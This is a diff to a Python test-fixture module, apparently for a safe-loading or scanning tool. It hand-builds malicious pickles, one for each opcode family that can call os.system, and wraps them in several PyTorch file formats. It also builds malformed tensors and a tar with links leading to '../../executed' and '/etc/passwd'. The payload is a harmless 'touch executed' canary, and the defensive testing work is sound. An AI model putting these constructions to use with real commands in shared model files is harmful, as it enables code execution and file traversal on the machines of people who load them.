@@ -1,6 +1,7 @@
-"""Pickles that run something where a pickle is trusted: one for each family of opcodes that can, and known detours.
+"""Pickles that run code in a trusting unpickler: one for each family of opcodes that can, and known detours.
 
-Each touches the file `executed` in the working folder. They are written out by opcode, since no pickler makes them all.
+Each creates the file `executed` in the working directory. They are written opcode by opcode, since no pickler makes all
+of them.
 """
 
 import copyreg
@@ -12,8 +13,8 @@ import tarfile
 import zipfile
 
 COMMAND = "touch executed"
-_MAGIC, _PROTOCOL = 0x1950A86A20F9469CFC6C, 1001  # how files of PyTorch before 1.6 begin
-EXTENSION = 199  # a code in copyreg's registry that stands for os.system
+_MAGIC, _PROTOCOL = 0x1950A86A20F9469CFC6C, 1001  # the first values of files by PyTorch before 1.6
+EXTENSION = 199  # the code of os.system in copyreg's registry
 
 
 def _text(value: str) -> bytes:
@@ -31,7 +32,7 @@ def _call(function: bytes, *arguments: bytes) -> bytes:
 
 
 def _pickled(body: bytes, protocol: int = 2) -> bytes:
-    """A dict {"model": what `body` leaves on the stack}."""
+    """Returns the pickle of {"model": the object that `body` leaves on the stack}."""
     return b"\x80" + bytes([protocol]) + b"}" + _text("model") + body + b"s."
 
 
@@ -45,7 +46,7 @@ def _bytes(value: bytes) -> bytes:
 
 
 def _storage(values: int = 4) -> bytes:
-    """A persistent id as PyTorch writes it: ("storage", type, key, device, number of values)."""
+    """Returns a persistent id as PyTorch writes it: ("storage", type, key, device, number of values)."""
     return b"(" + _text("storage") + _global("torch.FloatStorage") + _text("0") + _text("cpu") + _int(values) + b"tQ"
 
 
@@ -65,7 +66,7 @@ def _tensor(offset: int, size: tuple[int, ...], stride: tuple[int, ...]) -> byte
     )  # fmt: skip
 
 
-# By opcode family: what calls, or makes, something by name.
+# By family of opcodes that call or build an object by name.
 FAMILIES: dict[str, bytes] = {
     "GLOBAL, REDUCE": _EVIL,
     "STACK_GLOBAL, REDUCE": _pickled(_call(_text("os") + _text("system") + b"\x93", _RUN), 4),
@@ -133,7 +134,7 @@ FAMILIES: dict[str, bytes] = {
     "a config that is none": _pickled(_call(_global("yacs.config.CfgNode"), _call(_global("os.system"), _RUN))),
 }
 
-# Nothing in these runs; they lie about what they hold, or are too much.
+# These run no code, but declare wrong or excessive contents.
 LIES: dict[str, bytes] = {
     "tensor beyond its storage": _pickled(_tensor(0, (1 << 40,), (1,))),
     "tensor before its storage": _pickled(_tensor(-8, (4,), (1,))),
@@ -154,12 +155,12 @@ LIES: dict[str, bytes] = {
 
 
 def register_extension() -> None:
-    """So that EXT1, EXT2 and EXT4 would find something to run."""
+    """Registers os.system for EXT1, EXT2 and EXT4."""
     copyreg.add_extension("os", "system", EXTENSION)
 
 
 def as_zip(pickled: bytes) -> bytes:
-    """As PyTorch saves since 1.6."""
+    """Wraps a pickle as PyTorch does since 1.6."""
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w") as archive:
         archive.writestr("archive/data.pkl", pickled)
@@ -170,13 +171,13 @@ def as_zip(pickled: bytes) -> bytes:
 
 
 def as_before_1_6(pickled: bytes) -> bytes:
-    """As PyTorch saved before: pickles in a row."""
+    """Wraps a pickle as PyTorch did before 1.6: consecutive pickles."""
     system = {"protocol_version": _PROTOCOL, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
     return b"".join(pickle.dumps(part, 2) for part in (_MAGIC, _PROTOCOL, system)) + pickled + pickle.dumps([], 2)
 
 
 def as_tar(pickled: bytes) -> bytes:
-    """As PyTorch saved before 0.1.10: a tar; here with links that lead out of it."""
+    """Wraps a pickle as PyTorch did before 0.1.10: a tar, here with links that point outside of it."""
     buffer = io.BytesIO()
     with tarfile.open(fileobj=buffer, mode="w") as archive:
         for name, target in (("storages", "../../executed"), ("../executed", "/etc/passwd"), ("tensors", "executed")):
@@ -191,7 +192,7 @@ def as_tar(pickled: bytes) -> bytes:
 
 
 def as_torchscript(pickled: bytes) -> bytes:
-    """A program of TorchScript, which torch.load would hand to another loader."""
+    """Wraps a pickle as a TorchScript program, which torch.load gives to another loader."""
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w") as archive:
         archive.writestr("archive/constants.pkl", pickled)
@@ -211,7 +212,7 @@ WRAPPINGS = {
 
 
 def check_they_run() -> None:
-    """In a trusting unpickler the first of them does what it says, so that the canary is one. Call it in a child."""
+    """Checks that a trusting unpickler would run the first of them. Call this in a child."""
     pickle.loads(FAMILIES["GLOBAL, REDUCE"])
     assert os.path.exists("executed")
     os.remove("executed")
